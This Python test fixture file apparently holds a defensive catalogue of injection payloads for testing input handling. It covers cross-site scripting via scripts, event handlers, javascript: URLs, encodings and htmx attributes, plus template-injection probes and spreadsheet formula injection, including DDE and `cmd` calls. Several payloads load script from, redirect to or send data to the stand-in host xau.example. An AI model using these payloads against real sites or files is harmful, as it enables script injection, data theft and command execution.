"""What an attacker writes where a question is expected. Each payload calls `alert` or sets `xss` if it ever runs."""

from __future__ import annotations

# `zq…zq` marks template syntax: were it evaluated, `zq49zq` would stand there.
SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//xau.example/x.js></script>", "<script>xss=1</script",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</template><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script>",
    "<script\0>alert(1)</script>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)  # fmt: skip
ELEMENTS = (
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<base href=//xau.example/>",
    "<meta http-equiv=refresh content='0;url=//xau.example'>", "<link rel=stylesheet href=//xau.example/x.css>",
    "<style>*{background:url(//xau.example)}</style>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=//xau.example><button>x", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>x</x>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    'x" autofocus onfocus="alert(1)" x="', "` onmouseover=`alert(1)", '" style="position:fixed;inset:0', "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
HTMX = (
    "<div hx-get=//xau.example hx-trigger=load>x</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML><img src=x onerror=alert(1)></hx-partial>",
    "<div hx-on:load=alert(1)>x</div>", "<div hx-on::before-request=alert(1) hx-get=/ hx-trigger=load>x</div>",
    '" hx-get="//xau.example',
    "<button hx-post=/s/sign-out hx-trigger=load>x</button>", "<div data-hx-get=/ hx-vals='js:{a:alert(1)}'>x</div>",
    "<div hx-sse:connect=//xau.example/live>x</div>", "<template hx-swap-oob=true id=main><b>x</b></template>",
)  # fmt: skip
TEMPLATES = (
    "zq{{7*7}}zq", "zq{%if 1%}49{%endif%}zq", "zq${7*7}zq", "zq<%=7*7%>zq", "zq#{7*7}zq", "zq{{config}}zq",
    "zq%(theme)s%szq", "zq{0}{x}zq",
)  # fmt: skip
ODD = (
    "\u202e<script>alert(1)</script>\u202c", "\ufeff<img src=x onerror=alert(1)>", "＜script＞alert(1)＜/script＞",
    "<i\u0301mg src=x onerror=alert(1)>", "<\u200bscript>alert(1)</script>",
    "data: <img src=x onerror=alert(1)>\n\nevent: x\nid: 9",
    "\r\ndata: <script>alert(1)</script>\r\n\r\n", "ID NO <img src=x onerror=alert(1)> $& $1 $`",
    "\u2028<script>alert(1)</script>",
)  # fmt: skip
PAYLOADS = (*SCRIPTS, *ELEMENTS, *ATTRIBUTES, *HTMX, *TEMPLATES, *ODD)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://xau.example","x")', "x;=1+1", "x,=1+1", "x|=1+1", "x\n=1+1", "x\t=1+1", '"=1+1',
    '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://xau.example","//a")', "'=1+1", "%0A=1+1", "0x;-2+3",
)  # fmt: skip
# Fields that hold one short text at a time get the worst of all in few pieces.
SHORT = (
    "\"'><img src=x onerror=alert(1)><script>alert(1)</script>", "</title></textarea></template><svg onload=alert(1)>zq{{7*7}}zq",
    "\" hx-get=\"//xau.example\" hx-trigger=load x='", "javascript:alert(1)//<hx-partial hx-target=body>",
    "=1+1;@SUM(A1)\n=2+2 zq${7*7}zq",
)  # fmt: skip
